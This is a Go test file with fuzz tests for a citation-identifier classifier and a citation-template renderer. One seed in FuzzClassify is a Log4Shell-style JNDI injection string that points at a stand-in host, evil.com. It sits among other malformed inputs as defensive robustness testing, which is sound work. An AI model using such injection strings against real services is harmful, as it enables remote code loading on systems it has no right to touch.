package domain

import (
	"strings"
	"testing"
)

// FuzzClassify checks that classification is total and stable under
// surrounding whitespace.
func FuzzClassify(f *testing.F) {
	seeds := []string{
		"10.1038/s41586-020-2649-2",
		"https://doi.org/10.1038/x",
		"32728213",
		"PMID: 32728213",
		"S2CID:220845396",
		"https://books.google.com/books?id=abc123",
		"https://bbc.com/news/x",
		"not an identifier",
		"",
		"​",
		"query\x00with\x00nulls",
		string([]byte{0xfe, 0xff}),
		strings.Repeat("9", 9),
		"${jndi:ldap://evil.com/a}",
		"{{cite journal | title=x }}",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, input string) {
		kind := Classify(input)
		if kind != KindUnknown && !kind.Valid() {
			t.Fatalf("Classify(%q) returned invalid kind %q", input, kind)
		}
		if again := Classify("  " + input + "\n"); again != kind {
			t.Fatalf("Classify not stable under whitespace: %q vs %q", kind, again)
		}
	})
}

// FuzzCitationString checks that rendering never emits an empty optional
// field and always produces a closed template.
func FuzzCitationString(f *testing.F) {
	f.Add("Array programming with NumPy", "", "   ", "Harris, Charles R.")
	f.Add("", "", "", "")
	f.Add("a | b=c", "}}", "{{", "\n")

	f.Fuzz(func(t *testing.T, title, journal, year, author string) {
		c := NewCitation(TemplateJournal).
			AddAuthors([]string{author}).
			Add("title", title).
			Add("journal", journal).
			Add("year", year).
			Require("pmid", "1")

		out := c.String()
		if !strings.HasPrefix(out, "{{cite journal") || !strings.HasSuffix(out, " }}") {
			t.Fatalf("malformed template: %q", out)
		}
		if _, ok := c.Get("journal"); ok != (strings.TrimSpace(journal) != "") {
			t.Fatalf("journal emitted=%v for %q", ok, journal)
		}
		if !strings.Contains(out, "| pmid=1") {
			t.Fatalf("required field missing: %q", out)
		}
	})
}
